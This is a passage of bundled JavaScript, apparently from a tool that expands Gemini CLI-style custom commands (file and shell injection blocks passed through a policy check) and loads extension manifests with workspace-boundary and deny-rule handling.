        throw new errors/* ConfigurationError */.j1(`/${where.command}: @{${requested}} ${message}`, {
            file: where.file,
        });
    };
    const resolved = workspace.resolve(requested, { purpose: 'read' });
    if (!resolved.ok)
        return fail(`is refused: ${resolved.error.message}`);
    const info = await (0,promises_.stat)(resolved.absolutePath).catch(() => undefined);
    if (info === undefined)
        return fail('names a path that does not exist in the workspace.');
    const filter = workspace.fileFilter(FILTERING);
    const inPrimaryRoot = resolved.root === workspace.root;
    if (!info.isDirectory()) {
        if (inPrimaryRoot && filter.isIgnored(resolved.relativePath)) {
            services.logger.warning(`/${where.command}: the file '@{${requested}}' was ignored by .gitignore or .geminiignore and was not included in the prompt.`);
            return undefined;
        }
        return readThroughTool(resolved.absolutePath, services, fail);
    }
    const lines = [`--- Start of content for directory: ${requested} ---\n`];
    let files = 0;
    let chars = 0;
    const base = resolved.relativePath;
    const skipped = (relative, isDirectory) => {
        const inRoot = base === '' ? relative : `${base}/${relative}`;
        return (
        // Dependencies, build output and tool state below the directory asked for are left out.
        (isDirectory && (0,file_walk/* inDefaultExcludedDirectory */.GY)(relative)) ||
            (inPrimaryRoot && filter.isIgnored(inRoot, { isDirectory })));
    };
    for await (const file of (0,file_walk/* walkFiles */.Fv)(resolved.absolutePath, {
        skipDirectory: (relative) => skipped(relative, true),
    })) {
        if (skipped(file.relativePath, false))
            continue;
        if (++files > MAX_DIRECTORY_FILES) {
            fail(`holds more than ${MAX_DIRECTORY_FILES} files; name a smaller directory or single files.`);
        }
        const checked = workspace.resolve(file.absolutePath, { purpose: 'read' });
        if (!checked.ok) {
            lines.push(`--- Skipped ${file.relativePath}: traverses outside workspace ---\n\n`);
            continue;
        }
        const text = await readThroughTool(checked.absolutePath, services, fail);
        chars += text.length;
        if (chars > MAX_DIRECTORY_CHARS) {
            fail(`holds more than ${MAX_DIRECTORY_CHARS} characters of text; name a smaller directory.`);
        }
        lines.push(`--- ${file.relativePath} ---\n`, text, '\n');
    }
    lines.push(`--- End of content for directory: ${requested} ---`);
    return lines.join('');
}
/** One file through `read_file`: the policy's answer, the workspace's checks, its text. */
async function readThroughTool(absolutePath, services, fail) {
    const completed = await services.runTool(read_file/* READ_FILE_TOOL_NAME */.vk, { absolute_path: absolutePath });
    const { result } = completed;
    if (result.error !== undefined)
        return fail(`cannot be read: ${result.error.message}`);
    return textOf(result.llmContent, services.workspace.displayPath(absolutePath));
}
/** Text as read; media, which a prompt of text cannot carry, as a note naming the file. */
function textOf(content, shown) {
    if (typeof content === 'string')
        return content;
    const parts = Array.isArray(content) ? content : [content];
    return parts
        .map((part) => {
        if (typeof part === 'string')
            return part;
        if (part.text !== undefined)
            return part.text;
        const mime = part.inlineData?.mimeType ?? 'binary';
        return `[${shown}: ${mime} content is not included in a command's prompt]`;
    })
        .join('');
}

;// CONCATENATED MODULE: ./src/commands/injection-parser.ts
/**
 * Finds `!{…}` and `@{…}` blocks in a prompt the way the Gemini CLI does
 * (packages/cli/src/services/prompt-processors/injectionParser.ts): from the trigger, braces are
 * counted — `{` opens, `}` closes — and the block ends where the count returns to zero, so JSON
 * and `awk '{print $1}'` fit inside. There is no escaping and quotes are not special. A block left
 * open is an error, as there.
 */

const SHELL_TRIGGER = '!{';
const FILE_TRIGGER = '@{';
/** Every block opened by `trigger` in `text`, in order. `where` names the command for errors. */
function findInjections(text, trigger, where) {
    const found = [];
    let index = text.indexOf(trigger);
    while (index !== -1) {
        let depth = 1;
        let cursor = index + trigger.length;
        while (cursor < text.length && depth > 0) {
            const char = text[cursor];
            if (char === '{')
                depth += 1;
            else if (char === '}')
                depth -= 1;
            cursor += 1;
        }
        if (depth > 0) {
            throw new errors/* ConfigurationError */.j1(`invalid syntax in command /${where.command}: unclosed injection starting at index ${index} ('${trigger}'). Ensure braces are balanced; paths or commands with unbalanced braces are not supported directly (put the command in a script and call that).`, { file: where.file });
        }
        found.push({
            content: text.slice(index + trigger.length, cursor - 1).trim(),
            start: index,
            end: cursor,
        });
        index = text.indexOf(trigger, cursor);
    }
    return found;
}

// EXTERNAL MODULE: ./node_modules/shell-quote/index.js
var shell_quote = __webpack_require__(26591);
;// CONCATENATED MODULE: ./src/commands/shell-escape.ts
/**
 * `{{args}}` inside `!{…}` is one shell word, quoted by the same function the Gemini CLI uses
 * (`escapeShellArg` in packages/core/src/utils/shell-utils.ts: shell-quote 1.8.3 `quote([arg])`,
 * the version pinned there), so a command file behaves the same under both. Empty arguments give
 * an empty string, not `''`, as there.
 */

function escapeShellArgument(argument) {
    return argument === '' ? '' : (0,shell_quote.quote)([argument]);
}

;// CONCATENATED MODULE: ./src/commands/expand-command.ts
/**
 * A command invocation turned into its prompt, in the Gemini CLI's order (FileCommandLoader's
 * processor pipeline; docs/cli/custom-commands.md "Handling arguments"):
 *
 * 1. `@{path}` blocks become the file's content or the directory's files (file-injection.ts);
 * 2. `!{command}` blocks run and become their output, with `{{args}}` inside them shell-escaped
 *    as one word, and every other `{{args}}` becomes the arguments as typed;
 * 3. a prompt without `{{args}}` gets the whole invocation appended after a blank line, when
 *    arguments were given.
 *
 * Differences, each on purpose:
 * - Text a block injected is data, never processed again (the Gemini CLI runs `!{…}` found in
 *   an injected file too).
 * - A `!{…}` command goes through the policy like any tool call; a denied one stops the
 *   expansion with the policy's reason instead of asking someone who is not there.
 * - A path outside the workspace, one that does not exist, or one the policy denies stops it too
 *   (the Gemini CLI leaves the `@{…}` text in the prompt and shows an error beside it).
 *
 * The result keeps injected text apart from the command's own words, so each front end can mark
 * it as data: the Action frames it as untrusted, the CLI joins it as the Gemini CLI does.
 */





const ARGS_PLACEHOLDER = '{{args}}';
async function expandCommand(command, invocation, services) {
    const where = { command: command.name, file: command.origin.file };
    const { prompt } = command;
    let pieces = [{ kind: 'text', text: prompt }];
    if (prompt.includes(FILE_TRIGGER))
        pieces = await expandFiles(pieces, where, services);
    if (prompt.includes(SHELL_TRIGGER) || prompt.includes(ARGS_PLACEHOLDER)) {
        pieces = await expandShell(pieces, invocation.args, where, services);
    }
    if (!prompt.includes(ARGS_PLACEHOLDER) && invocation.args !== '') {
        pieces = appendText(pieces, `\n\n${invocation.raw}`);
    }
    return { command, invocation, pieces: pieces.filter((piece) => piece.text !== '') };
}
/** The pieces joined as the Gemini CLI sends them: injected text inline, unmarked. */
function plainPrompt(pieces) {
    return pieces.map((piece) => piece.text).join('');
}
async function expandFiles(pieces, where, services) {
    const out = [];
    for (const piece of pieces) {
        if (piece.kind !== 'text') {
            out.push(piece);
            continue;
        }
        let cursor = 0;
        for (const block of findInjections(piece.text, FILE_TRIGGER, where)) {
            out.push({ kind: 'text', text: piece.text.slice(cursor, block.start) });
            if (block.content !== '') {
                const text = await injectPath(block.content, where, services);
                if (text !== undefined)
                    out.push({ kind: 'file', path: block.content, text });
            }
            cursor = block.end;
        }
        out.push({ kind: 'text', text: piece.text.slice(cursor) });
    }
    return out;
}
async function expandShell(pieces, args, where, services) {
    const out = [];
    const escaped = escapeShellArgument(args);
    for (const piece of pieces) {
        if (piece.kind !== 'text') {
            out.push(piece);
            continue;
        }
        let cursor = 0;
        for (const block of findInjections(piece.text, SHELL_TRIGGER, where)) {
            out.push({ kind: 'text', text: withArgs(piece.text.slice(cursor, block.start), args) });
            cursor = block.end;
            const command = block.content.split(ARGS_PLACEHOLDER).join(escaped).trim();
            if (command === '')
                continue;
            out.push({
                kind: 'command-output',
                command,
                text: await runInjected(command, where, services),
            });
        }
        out.push({ kind: 'text', text: withArgs(piece.text.slice(cursor), args) });
    }
    return out;
}
function withArgs(text, args) {
    return text.split(ARGS_PLACEHOLDER).join(args);
}
/**
 * Runs one `!{…}` command as a `run_shell_command` call and returns what the prompt gets: the
 * output, and the Gemini CLI's status line when the command failed or was stopped.
 */
async function runInjected(command, where, services) {
    const completed = await services.runTool(run_shell_command/* RUN_SHELL_COMMAND_TOOL_NAME */.wE, { command });
    const { result } = completed;
    if (result.error?.type === 'policy_violation') {
        throw new errors/* ConfigurationError */.j1(`/${where.command} cannot be run. Blocked command: "${command}". Reason: ${result.error.message} Allow the command for this workflow (allowed_commands, or a policy file), or remove the !{…} block from the command file.`, { file: where.file });
    }
    const run = (0,run_shell_command/* shellRunOf */.Kr)(result);
    if (run === undefined || (result.error !== undefined && run.exitCode === null)) {
        const reason = result.error?.message ?? 'it gave no result';
        throw new errors/* ConfigurationError */.j1(`Failed to start shell command in '/${where.command}': ${reason} Command: ${command}`, { file: where.file });
    }
    return run.output.trim() + statusLine(command, run);
}
/** The Gemini CLI's status line (packages/cli/src/services/prompt-processors/shellProcessor.ts). */
function statusLine(command, run) {
    if (run.stopped !== undefined)
        return `\n[Shell command '${command}' aborted]`;
    if (run.signal !== null)
        return `\n[Shell command '${command}' terminated by signal ${run.signal}]`;
    if (run.exitCode !== null && run.exitCode !== 0) {
        return `\n[Shell command '${command}' exited with code ${run.exitCode}]`;
    }
    return '';
}
/** Adds text to the last text piece, or as a new one after injected content. */
function appendText(pieces, text) {
    const last = pieces.at(-1);
    if (last?.kind === 'text')
        return [...pieces.slice(0, -1), { kind: 'text', text: last.text + text }];
    return [...pieces, { kind: 'text', text }];
}


/***/ }),

/***/ 98067:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ir: () => (/* binding */ extensionAgentFolders),
/* harmony export */   ek: () => (/* binding */ extensionContextFiles),
/* harmony export */   k0: () => (/* binding */ withExtensionServers),
/* harmony export */   l9: () => (/* binding */ extensionPolicyRules)
/* harmony export */ });
/* harmony import */ var _agent_subagents_agent_files_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(50753);
/* harmony import */ var _policy_parse_policy_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(58691);
/* harmony import */ var _policy_policy_types_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(45578);
/* harmony import */ var _tools_tool_selection_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(87146);
/* harmony import */ var _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(36624);





/** Above every workflow and settings rule but a fork's hard stop (999). */
const EXCLUDED_TOOL_PRIORITY = 900;
/** The settings with the extensions' MCP servers added, and their expanded values as secrets. */
function withExtensionServers(settings, extensions, logger) {
    const servers = { ...settings.mcpServers };
    const owners = new Map();
    const expandedValues = [...settings.expandedValues];
    for (const extension of extensions) {
        expandedValues.push(...extension.expandedValues);
        for (const [name, server] of Object.entries(extension.mcpServers)) {
            if (Object.hasOwn(settings.mcpServers, name)) {
                logger.info(`The MCP server "${name}" of extension ${extension.name} is also defined in ${settings.source}; that definition is used.`);
                continue;
            }
            const owner = owners.get(name);
            if (owner !== undefined) {
                logger.warning(`Skipping MCP config for server with name "${name}" from extension "${extension.name}" as it already exists (extension "${owner}").`);
                continue;
            }
            owners.set(name, extension.name);
            servers[name] = server;
        }
    }
    if (owners.size === 0)
        return settings;
    return { ...settings, mcpServers: servers, expandedValues: [...new Set(expandedValues)] };
}
/** The policy denials of the extensions' `excludeTools`, one rule per extension. */
function extensionPolicyRules(extensions) {
    const rules = [];
    for (const extension of extensions) {
        const source = {
            file: `${extension.shownAs}/${_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x}`,
            line: 1,
            column: 1,
            tier: 'admin',
        };
        const base = {
            decision: 'deny',
            priority: EXCLUDED_TOOL_PRIORITY,
            effectivePriority: _policy_policy_types_js__WEBPACK_IMPORTED_MODULE_2__/* .TIER_BASE */ .H.admin + EXCLUDED_TOOL_PRIORITY / 1000,
            source,
        };
        const tools = extension.excludeTools.filter((entry) => (0,_tools_tool_selection_js__WEBPACK_IMPORTED_MODULE_4__/* .toolArgumentOf */ .zj)(entry) === undefined);
        const commands = extension.excludeTools
            .filter((entry) => (0,_tools_tool_selection_js__WEBPACK_IMPORTED_MODULE_4__/* .toolNameOf */ .HT)(entry) === _policy_parse_policy_js__WEBPACK_IMPORTED_MODULE_1__/* .SHELL_TOOL_NAME */ .Wn)
            .map(_tools_tool_selection_js__WEBPACK_IMPORTED_MODULE_4__/* .toolArgumentOf */ .zj)
            .filter((command) => command !== undefined && command.trim() !== '');
        if (tools.length > 0) {
            rules.push({
                ...base,
                id: `extension:${extension.name}:exclude-tools`,
                toolNames: tools.map(_tools_tool_selection_js__WEBPACK_IMPORTED_MODULE_4__/* .toolNameOf */ .HT),
                denyMessage: `The extension ${extension.name} excludes this tool (excludeTools in its ${_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x}).`,
            });
        }
        if (commands.length > 0) {
            rules.push({
                ...base,
                id: `extension:${extension.name}:exclude-commands`,
                toolNames: [_policy_parse_policy_js__WEBPACK_IMPORTED_MODULE_1__/* .SHELL_TOOL_NAME */ .Wn],
                commandPrefixes: commands,
                denyMessage: `The extension ${extension.name} excludes these commands: ${commands.join(', ')}.`,
            });
        }
    }
    return rules;
}
/** The extensions' context files, for the system instruction (read like GEMINI.md). */
function extensionContextFiles(extensions) {
    return extensions.flatMap((extension) => extension.contextFiles.map((file) => ({ ...file, boundary: extension.configDirectory })));
}
/** The extensions' `agents/` folders, by extension name, to load after the repository's. */
function extensionAgentFolders(extensions) {
    return extensions.map((extension) => (0,_agent_subagents_agent_files_js__WEBPACK_IMPORTED_MODULE_0__/* .extensionAgentsFolder */ .Gi)(extension.configDirectory, extension.shownAs));
}


/***/ }),

/***/ 36624:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   a: () => (/* binding */ parseExtensionManifest),
/* harmony export */   x: () => (/* binding */ MANIFEST_FILE_NAME)
/* harmony export */ });
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(41514);
/* harmony import */ var _config_json_text_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(86948);
/* harmony import */ var _config_settings_expand_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(64570);
/* harmony import */ var _config_settings_schema_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(6042);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(46316);
/**
 * `gemini-extension.json`, the manifest of a Gemini CLI extension (docs/extensions/reference.md;
 * packages/cli/src/config/extension.ts `ExtensionConfig`). The keys used here: `name` (letters,
 * digits and dashes), `version`, `description`, `mcpServers` (the shape of settings.json's),
 * `contextFileName` (one name or a list; default `GEMINI.md`) and `excludeTools`. Other keys
 * (`settings`, `themes`, `plan`, `migratedTo`) are accepted and ignored, as a manifest written for
 * the CLI has them.
 *
 * Every string may use the extension variables `${extensionPath}`, `${workspacePath}`, `${/}` and
 * `${pathSeparator}`; other `${…}` stay as written there, as in the Gemini CLI. A server's `env`
 * and `headers` then expand `$VAR` from the workflow's environment exactly as settings.json's do
 * (config/settings-expand.ts), with the same refusals. A server's `trust` is dropped: an extension
 * cannot vouch for itself (the Gemini CLI drops it too); the workflow's policy decides.
 */






const MANIFEST_FILE_NAME = 'gemini-extension.json';
const DEFAULT_CONTEXT_FILE = 'GEMINI.md';
const text = (what) => zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP({ error: `expected ${what}` });
const manifestSchema = zod__WEBPACK_IMPORTED_MODULE_5__/* .looseObject */ ._H3({
    name: text('the extension name as a string').regex(/^[a-zA-Z0-9-]+$/, {
        error: 'expected an extension name of letters (a-z, A-Z), numbers (0-9) and dashes (-) only',
    }),
    version: text('the version as a string such as "1.0.0"').min(1, 'expected a version'),
    description: text('a string').optional(),
    mcpServers: zod__WEBPACK_IMPORTED_MODULE_5__/* .record */ .g1P(zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP(), _config_settings_schema_js__WEBPACK_IMPORTED_MODULE_3__/* .serverSchema */ .zT, { error: 'expected an object' }).optional(),
    contextFileName: zod__WEBPACK_IMPORTED_MODULE_5__/* .union */ .KCZ([zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP(), zod__WEBPACK_IMPORTED_MODULE_5__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_5__/* .string */ .YjP())], {
        error: 'expected a file name or a list of file names',
    })
        .optional(),
    excludeTools: zod__WEBPACK_IMPORTED_MODULE_5__/* .array */ .YOg(text('a tool name'), { error: 'expected a list of tool names' })
        .optional(),
}, { error: 'expected a JSON object' });
/** Parses and checks a manifest; problems are `ConfigurationError`s at the file, line and column. */
function parseExtensionManifest(source, options) {
    const fail = (keyPath, message) => {
        // A key that is missing altogether is reported at the start of the object.
        const at = keyPath.length === 0 ? { line: 1, column: 1 } : (0,_config_json_text_js__WEBPACK_IMPORTED_MODULE_1__/* .locateJsonPath */ .Od)(source, keyPath);
        const shown = keyPath.length === 0 ? '' : `${keyPath.join('.')}: `;
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_4__/* .ConfigurationError */ .j1(`${shown}${message}`, { file: options.file, ...(at ?? {}) });
    };
    const raw = hydrate((0,_config_json_text_js__WEBPACK_IMPORTED_MODULE_1__/* .parseJsonText */ .lk)(source, options.file), variables(options));
    for (const key of ['name', 'version']) {
        if (typeof raw === 'object' && raw !== null && !(key in raw)) {
            fail([], `expected "${key}" in the extension manifest.`);
        }
    }
    const parsed = manifestSchema.safeParse(raw);
    if (!parsed.success) {
        const issue = parsed.error.issues[0];
        const keyPath = (issue?.path ?? []).filter((step) => typeof step !== 'symbol');
        return fail(keyPath, `${(issue?.message ?? 'invalid value').replace(/^Invalid input: /, '')}.`);
    }
    const value = parsed.data;
    const expander = (0,_config_settings_expand_js__WEBPACK_IMPORTED_MODULE_2__/* .createExpander */ .k)({
        env: options.env,
        ...(options.forbiddenValues ? { forbiddenValues: options.forbiddenValues } : {}),
        fail,
    });
    const mcpServers = {};
    for (const [name, server] of Object.entries(value.mcpServers ?? {})) {
        const at = ['mcpServers', name];
        const problem = (0,_config_settings_schema_js__WEBPACK_IMPORTED_MODULE_3__/* .serverNameProblem */ .Oi)(name);
        if (problem !== undefined)
            fail(at, problem);
        const checked = (0,_config_settings_schema_js__WEBPACK_IMPORTED_MODULE_3__/* .checkServer */ .i6)(server, {
            fail: (key, message) => fail([...at, ...key], message),
            expand: (textValue, key) => expander.expand(textValue, [...at, ...key]),
        });
        delete checked.trust;
        mcpServers[name] = checked;
    }
    const names = value.contextFileName ?? DEFAULT_CONTEXT_FILE;
    const contextFileNames = (typeof names === 'string' ? [names] : names).map((name, index) => {
        const problem = contextPathProblem(name);
        if (problem !== undefined) {
            fail(typeof names === 'string' ? ['contextFileName'] : ['contextFileName', index], `invalid context file path ${JSON.stringify(name)}: context files must be within the extension directory (${problem}).`);
        }
        return node_path__WEBPACK_IMPORTED_MODULE_0___default().posix.normalize(name.replace(/\\/g, '/'));
    });
    return {
        name: value.name,
        version: value.version,
        ...(value.description === undefined ? {} : { description: value.description }),
        mcpServers,
        contextFileNames,
        excludeTools: value.excludeTools ?? [],
        expandedValues: expander.values(),
    };
}
/** The Gemini CLI's extension variables (packages/cli/src/config/extensions/variableSchema.ts). */
function variables(options) {
    return {
        extensionPath: options.extensionPath,
        workspacePath: options.workspacePath,
        '/': (node_path__WEBPACK_IMPORTED_MODULE_0___default().sep),
        pathSeparator: (node_path__WEBPACK_IMPORTED_MODULE_0___default().sep),
    };
}
/** Fills `${name}` in every string; unknown names stay as written. */
function hydrate(value, known) {
    if (typeof value === 'string') {
        return value.replace(/\$\{(.*?)\}/g, (match, name) => Object.hasOwn(known, name) ? (known[name] ?? match) : match);
    }
    if (Array.isArray(value))
        return value.map((item) => hydrate(item, known));
    if (typeof value === 'object' && value !== null) {
        const entries = Object.entries(value).filter(([key]) => key !== '__proto__' && key !== 'constructor' && key !== 'prototype');
        return Object.fromEntries(entries.map(([key, item]) => [key, hydrate(item, known)]));
    }
    return value;
}
function contextPathProblem(name) {
    const slashed = name.replace(/\\/g, '/');
    if (slashed.trim() === '')
        return 'it is empty';
    if (node_path__WEBPACK_IMPORTED_MODULE_0___default().posix.isAbsolute(slashed) || /^[A-Za-z]:\//.test(slashed))
        return 'it is absolute';
    const normalized = node_path__WEBPACK_IMPORTED_MODULE_0___default().posix.normalize(slashed);
    if (normalized === '..' || normalized.startsWith('../'))
        return 'it leads out of it';
    return undefined;
}


/***/ }),

/***/ 46664:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   gi: () => (/* binding */ REPOSITORY_EXTENSIONS_PATH),
/* harmony export */   l_: () => (/* binding */ describeExtension),
/* harmony export */   tF: () => (/* binding */ loadExtensions)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(46316);
/* harmony import */ var _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(36624);
/**
 * The extensions of a run: every folder `.gemini/extensions/<name>/` of the repository that holds
 * a `gemini-extension.json` (on a pull request, the base branch's copy), and the folders the
 * workflow names (the `extensions` input, the CLI's `--extension`). Nothing is installed: an
 * extension is a folder already on disk, vendored in the repository or checked out at a pinned
 * ref by an earlier step.
 *
 * A manifest that does not load stops the run: an extension's `excludeTools` may deny tools, and
 * skipping it would quietly allow what it meant to forbid. Two extensions of one name stop it too.
 */




/** The repository's extensions folder, relative to its root. */
const REPOSITORY_EXTENSIONS_PATH = '.gemini/extensions';
/** A manifest is a small JSON file. */
const MAX_MANIFEST_BYTES = 256 * 1024;
/** Loads every extension, sorted by name. */
async function loadExtensions(options) {
    const loaded = [];
    const repositoryFolder = node_path__WEBPACK_IMPORTED_MODULE_1___default().join(options.configRoot, ...REPOSITORY_EXTENSIONS_PATH.split('/'));
    for (const name of await folderNames(repositoryFolder)) {
        const configDirectory = node_path__WEBPACK_IMPORTED_MODULE_1___default().join(repositoryFolder, name);
        const shownAs = `${REPOSITORY_EXTENSIONS_PATH}/${name}`;
        if (!(await isFile(node_path__WEBPACK_IMPORTED_MODULE_1___default().join(configDirectory, _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x)))) {
            options.logger.warning(`${shownAs} has no ${_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x}, so it is not loaded as an extension.`);
            continue;
        }
        const extension = await loadExtension({
            configDirectory,
            extensionPath: node_path__WEBPACK_IMPORTED_MODULE_1___default().join(options.workspaceRoot, ...shownAs.split('/')),
            shownAs,
            source: 'repository',
            options,
        });
        if (extension.name !== name) {
            options.logger.warning(`${shownAs}: the extension is named "${extension.name}" in its manifest; the folder name is expected to match.`);
        }
        loaded.push(extension);
    }
    for (const given of options.paths) {
        const folder = node_path__WEBPACK_IMPORTED_MODULE_1___default().resolve(options.workspaceRoot, given);
        const info = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(folder).catch(() => undefined);
        if (!info?.isDirectory()) {
            throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(`expected the folder of an extension (holding ${_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x}); ${JSON.stringify(given)} ${info ? 'is not a folder' : 'does not exist'}.`, { input: options.pathsSetting });
        }
        if (!(await isFile(node_path__WEBPACK_IMPORTED_MODULE_1___default().join(folder, _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x)))) {
            throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(`expected ${_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x} in the extension folder ${JSON.stringify(given)}; it has none.`, { input: options.pathsSetting });
        }
        loaded.push(await loadExtension({
            configDirectory: folder,
            extensionPath: folder,
            shownAs: given,
            source: 'workflow',
            options,
        }));
    }
    const byName = new Map();
    for (const extension of loaded) {
        const earlier = byName.get(extension.name);
        if (earlier !== undefined) {
            throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(`expected one extension named "${extension.name}"; ${earlier.shownAs} and ${extension.shownAs} both are. Remove or rename one.`, { file: node_path__WEBPACK_IMPORTED_MODULE_1___default().posix.join(extension.shownAs, _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x) });
        }
        byName.set(extension.name, extension);
    }
    return [...byName.values()].sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
}
/** `name 1.2.0 (.gemini/extensions/name)` for the log and the report. */
function describeExtension(extension) {
    return `${extension.name} ${extension.version} (${extension.shownAs})`;
}
async function loadExtension(input) {
    const { options } = input;
    const file = node_path__WEBPACK_IMPORTED_MODULE_1___default().posix.join(input.shownAs, _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x);
    const manifestPath = node_path__WEBPACK_IMPORTED_MODULE_1___default().join(input.configDirectory, _extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .MANIFEST_FILE_NAME */ .x);
    const info = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(manifestPath);
    if (info.size > MAX_MANIFEST_BYTES) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(`expected an extension manifest of at most ${MAX_MANIFEST_BYTES} bytes; it has ${info.size}.`, { file });
    }
    let text;
    try {
        text = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readFile)(manifestPath, 'utf8');
    }
    catch (error) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(`could not read the extension manifest: ${(0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .errorMessage */ .gJ)(error)}`, {
            file,
        });
    }
    const { contextFileNames, ...manifest } = (0,_extension_manifest_js__WEBPACK_IMPORTED_MODULE_3__/* .parseExtensionManifest */ .a)(text, {
        file,
        extensionPath: node_path__WEBPACK_IMPORTED_MODULE_1___default().resolve(input.extensionPath),
        workspacePath: node_path__WEBPACK_IMPORTED_MODULE_1___default().resolve(options.workspaceRoot),
        env: options.env,
        ...(options.forbiddenValues ? { forbiddenValues: options.forbiddenValues } : {}),
    });
    const contextFiles = [];
    for (const name of contextFileNames) {
        const candidate = await insideFile(input.configDirectory, name);
        if (candidate !== undefined) {
            contextFiles.push({ path: candidate, displayPath: node_path__WEBPACK_IMPORTED_MODULE_1___default().posix.join(input.shownAs, name) });
        }
    }
    return {
        ...manifest,
        path: node_path__WEBPACK_IMPORTED_MODULE_1___default().resolve(input.extensionPath),
        configDirectory: input.configDirectory,
        shownAs: input.shownAs,
        source: input.source,
        contextFiles,
    };
}
/** The sub-folders of `folder` by name, none when it does not exist. */
async function folderNames(folder) {
    try {
        const entries = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)(folder, { withFileTypes: true });
        return entries
            .filter((entry) => entry.isDirectory())
            .map((entry) => entry.name)
            .sort();
    }
    catch (error) {
        const code = error?.code;
        if (code === 'ENOENT' || code === 'ENOTDIR')
            return [];
        throw error;
    }
}
async function isFile(file) {
    return (await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(file).catch(() => undefined))?.isFile() === true;
}
/**
 * `name` below `folder` when it is a file there whose real path stays inside (a context file is
 * put into the system instruction; a symlink must not bring in a file from elsewhere).
 */
async function insideFile(folder, name) {
    const candidate = node_path__WEBPACK_IMPORTED_MODULE_1___default().join(folder, ...name.split('/'));
    try {
        const [real, realFolder] = await Promise.all([(0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.realpath)(candidate), (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.realpath)(folder)]);
        const relative = node_path__WEBPACK_IMPORTED_MODULE_1___default().relative(realFolder, real);
        if (relative.startsWith('..') || node_path__WEBPACK_IMPORTED_MODULE_1___default().isAbsolute(relative))
            return undefined;
        return (await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(real)).isFile() ? real : undefined;
    }
    catch {
        return undefined;
    }
}


/***/ }),

/***/ 63065:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  yb: () => (/* binding */ REPOSITORY_COMMANDS_PATH),
  ai: () => (/* binding */ UnknownCommandError),
  GK: () => (/* binding */ findInvocation),
  iY: () => (/* binding */ loadRunCommands),
  _w: () => (/* binding */ sessionPromptFor)
});

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
